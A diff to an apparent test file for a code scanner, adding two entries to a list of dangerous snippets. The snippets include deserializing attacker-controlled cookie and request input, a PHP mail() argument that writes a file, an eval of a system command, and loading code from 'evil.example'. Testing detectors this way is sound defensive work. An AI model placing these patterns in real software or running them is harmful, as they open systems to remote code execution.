@@ -121,6 +121,8 @@ test('processes, look-ups and classes of the libraries of Python, Java and .NET 
     'mail("a@b.c","x","y","","-X/tmp/x.php");',
     'pickle.loads(base64.b64decode("gASV"))',
     'Marshal.load(Base64.decode64("BAhv"))',
+    'Marshal.load(Base64.decode64(params[:x]))',
+    'unserialize(base64_decode($_COOKIE["x"]))',
     '(eval \'(system "id"))',
     '(load-file "http://evil.example/x.clj")',
   ]);
